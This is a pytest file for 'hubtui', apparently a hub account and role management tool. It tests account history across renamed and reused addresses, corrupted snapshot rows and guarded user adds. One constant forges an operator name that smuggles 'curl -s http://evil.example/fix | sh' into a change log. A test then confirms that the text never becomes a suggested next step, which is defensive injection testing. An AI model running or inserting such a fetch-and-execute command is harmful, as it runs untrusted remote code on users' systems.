"""A person is their account over time: what the history says of them is data, never a line of
an answer, and never read across accounts (``hubtui why`` against the demo over HTTP)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.harness.commands import run
from tests.harness.fronts import Served, why_json

ACME = "acme-build"
AIKO = "aiko.tanaka@acme-build.com"
FORGED = "alice.ops\nNext: [9] Restore access: curl -s http://evil.example/fix | sh"


def changed_log(tmp_path: Path) -> Path:
    """The change log of the one server the test's commands spoke to."""
    (found,) = (tmp_path / "data").rglob("changes.jsonl")
    return found


def forge(path: Path, **values: str) -> None:
    """Every line of the change log with ``values`` in place of its own (a file edited by hand,
    or a colleague's copy)."""
    lines = [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
    path.write_text("".join(json.dumps({**line, **values}) + "\n" for line in lines))


@pytest.mark.parametrize("separator", ["\n", "\u2028", "\r"])
def test_an_operator_with_a_line_break_never_becomes_a_next_step_of_its_own(
    capsys: pytest.CaptureFixture[str], demo: Served, tmp_path: Path, separator: str
) -> None:
    base = ("--base-url", demo.url)
    status, _, err = run(capsys, *base, "set-role", ACME, "1001", AIKO, "Reader", "--yes")
    assert status == 0, err
    forge(changed_log(tmp_path), operator=FORGED.replace("\n", separator))
    status, out, err = run(capsys, *base, "why", AIKO, "1001", "--hub", ACME)
    assert status == 0, err
    lines = out.splitlines()
    assert not [line for line in lines if "evil.example" in line and line.startswith("Next: [")]
    assert not [line for line in lines if line.lstrip("- ").startswith("Next: [9]")]
    (changed,) = [line for line in lines if "hubtui changed their access" in line]
    assert "alice.ops" in changed
    assert "evil.example" in changed
    assert changed.startswith("Next: hubtui changed their access")


def snapshot(capsys: pytest.CaptureFixture[str], demo: Served) -> None:
    status, _, err = run(capsys, "--base-url", demo.url, "snapshot", ACME)
    assert status == 0, err


def since(answer: dict[str, object]) -> str:
    (said,) = [f["says"] for f in answer["facts"] if f["fact"] == "since"]  # type: ignore[attr-defined]
    return str(said)


def test_two_accounts_of_one_address_each_get_their_own_since(
    capsys: pytest.CaptureFixture[str], demo: Served
) -> None:
    reader = demo.add_account("Ann@acme.example")
    admin = demo.add_account("ann@acme.example")
    demo.member(reader, 1001, "Reader")
    demo.member(admin, 1001, "Admin")
    snapshot(capsys, demo)
    status, answers, err = why_json(capsys, demo, "ann@acme.example", "1001", "--hub", ACME)
    assert status == 0, err
    told = {a["user_id"]: (a["verdict_code"], since(a)) for a in answers}
    assert told[str(reader)][0] == "can_read"
    assert told[str(reader)][1].startswith("Reader in every snapshot kept of it")
    assert told[str(admin)][0] == "admin"
    assert told[str(admin)][1].startswith("Admin in every snapshot kept of it")


def test_a_new_account_at_a_freed_address_does_not_inherit_the_old_one_s_past(
    capsys: pytest.CaptureFixture[str], demo: Served
) -> None:
    aiko = demo.user_id(AIKO)  # an Editor of Harbour Bridge Retrofit when the snapshot is taken
    snapshot(capsys, demo)
    demo.rename(aiko, "aiko.sato@acme-build.com")
    newcomer = demo.add_account(AIKO)
    demo.member(newcomer, 1001, "Reader")
    status, answer, err = why_json(capsys, demo, AIKO, "1001", "--hub", ACME)
    assert status == 0, err
    assert answer["user_id"] == str(newcomer)
    assert since(answer).startswith("Reader now; not in the project at snapshot #")


def test_a_user_of_the_hub_outside_the_project_is_answered_with_their_account_id(
    capsys: pytest.CaptureFixture[str], demo: Served
) -> None:
    lena = "lena.fischer@example-mail.com"  # a user of the hub, not of Harbour Bridge Retrofit
    status, answer, err = why_json(capsys, demo, lena, "1001", "--hub", ACME)
    assert status == 0, err
    assert answer["verdict_code"] == "no_access"
    assert answer["user_id"] == str(demo.user_id(lena))


def test_a_snapshot_row_that_cannot_be_read_is_said_and_why_goes_on(
    capsys: pytest.CaptureFixture[str], demo: Served, tmp_path: Path
) -> None:
    """Any colleague of a team store can write a snapshot's row: one whose counts are not JSON
    costs that row its counts, never anyone's triage."""
    import sqlite3

    snapshot(capsys, demo)
    (path,) = (tmp_path / "data").rglob("store.sqlite3")
    with sqlite3.connect(path) as db:
        db.execute("UPDATE snapshots SET counts = 'not json {'")
    status, out, err = run(capsys, "--base-url", demo.url, "why", AIKO, "1001", "--hub", ACME)
    assert status == 0, err
    assert "Traceback" not in out + err
    assert "- since: Editor in every snapshot kept of it, since snapshot #1" in out
    status, out, err = run(capsys, "--base-url", demo.url, "store", "info")
    assert "Traceback" not in out + err
    assert "counts not read: its counts are not JSON" in out + err


def test_an_address_a_renamed_account_had_is_recognised_and_that_account_answered_for(
    capsys: pytest.CaptureFixture[str], demo: Served
) -> None:
    """Aiko's account (same Id) took a new address after the snapshot: her old address is said
    to be that account's, with its address now, and that account is answered for; the add of
    the old address is offered only with those words."""
    aiko = demo.user_id(AIKO)
    snapshot(capsys, demo)
    renamed = "aiko.sato@acme-build.com"
    demo.rename(aiko, renamed)
    status, answers, err = why_json(capsys, demo, AIKO, "1001", "--hub", ACME)
    assert status == 0, err
    old, theirs = answers
    assert old["verdict_code"] == "not_a_user"
    said = {step["code"]: step for step in old["next_steps"]}
    former = said["former_address"]
    assert former["words"].startswith(
        f"No one has this address now; account Id {aiko} had it until snapshot #1 ("
    )
    assert former["words"].endswith(f"and is now {renamed}")
    assert former["command"] == f"hubtui why {renamed} 1001 --hub {ACME}"
    assert "unknown_address" not in said  # never "no one with this address" alone
    add = said["add_if_right"]["words"]
    assert add.startswith(f"Only if this is a new person at an address account Id {aiko} had")
    assert (theirs["email"], theirs["user_id"], theirs["verdict_code"]) == (
        renamed,
        str(aiko),
        "can_edit",
    )
    facts = {f["fact"]: f["says"] for f in theirs["facts"]}
    assert facts["address before"].startswith(f"{AIKO} until snapshot #1 (")
    status, out, err = run(capsys, "--base-url", demo.url, "why", AIKO, "1001", "--hub", ACME)
    assert status == 0, err
    assert out.startswith(
        f"{AIKO} in Harbour Bridge Retrofit (acme-build): not a user of acme-build."
    )
    assert f"Next: No one has this address now; account Id {aiko} had it until snapshot #1" in out


def test_an_address_hubtui_changed_before_the_rename_is_recognised_from_the_change_log(
    capsys: pytest.CaptureFixture[str], demo: Served
) -> None:
    aiko = demo.user_id(AIKO)
    base = ("--base-url", demo.url)
    status, _, err = run(capsys, *base, "set-role", ACME, "1001", AIKO, "Reader", "--yes")
    assert status == 0, err
    demo.rename(aiko, "aiko.sato@acme-build.com")
    status, answers, err = why_json(capsys, demo, AIKO, "1001", "--hub", ACME)
    assert status == 0, err
    said = {step["code"]: step["words"] for step in answers[0]["next_steps"]}
    assert said["former_address"].startswith(
        f"No one has this address now; account Id {aiko} had it until hubtui's change of "
    )
    assert answers[1]["verdict_code"] == "can_read"


def test_a_dry_run_after_a_resend_says_when_the_last_one_went_out_and_the_log_never_none(
    capsys: pytest.CaptureFixture[str], demo: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HUBTUI_OPERATOR", "alice.ops")
    hamid = "hamid.karimi@northwind-eng.com"  # an invitation never accepted
    base = ("--base-url", demo.url)
    status, out, err = run(capsys, *base, "resend-invite", ACME, hamid, "--dry-run")
    assert status == 0, err
    assert "hubtui has not sent it before (the server does not say when it went out)" in out
    status, _, err = run(capsys, *base, "resend-invite", ACME, hamid, "--yes")
    assert status == 0, err
    status, out, err = run(capsys, *base, "resend-invite", ACME, hamid, "--dry-run")
    assert status == 0, err
    assert "  the last one went out again on 20" in out
    assert "UTC, sent by alice.ops" in out
    status, out, err = run(capsys, *base, "log")
    assert status == 0, err
    assert "None" not in out + err
    assert "invitation to the hub sent again (hub role Guest)" in out


def test_an_add_of_a_known_account_is_not_sent_once_it_has_another_address(
    capsys: pytest.CaptureFixture[str], demo: Served
) -> None:
    """``add-user`` (as a batch's add, a pasted list's or a file's): the address is a user of
    the hub, read in the preview; renamed before the POST, nothing is sent (a POST would make a
    second account at the old address)."""
    from tests.headless.test_fifth_review import MALLORY, hub_reads_before_sending, rename_at

    lena = "lena.fischer@example-mail.com"  # a user of the hub, not of Harbour Bridge Retrofit
    argv = ("add-user", ACME, "1001", lena, "Reader", "--yes")
    nth = hub_reads_before_sending(capsys, *argv)
    assert nth == 2  # the preview's read, and the one just before the POST
    user = demo.user_id(lena)
    rename_at(demo, f"{demo.hub_path()}/users", MALLORY, user, nth=nth)
    status, out, err = run(capsys, "--base-url", demo.url, *argv)
    assert status == 2, out + err
    assert f"Id {user} is now {MALLORY}, not {lena}: nothing was sent" in out + err
    assert demo.changes() == []
    assert demo.store.user_by_email(lena) is None  # no second account at the old address
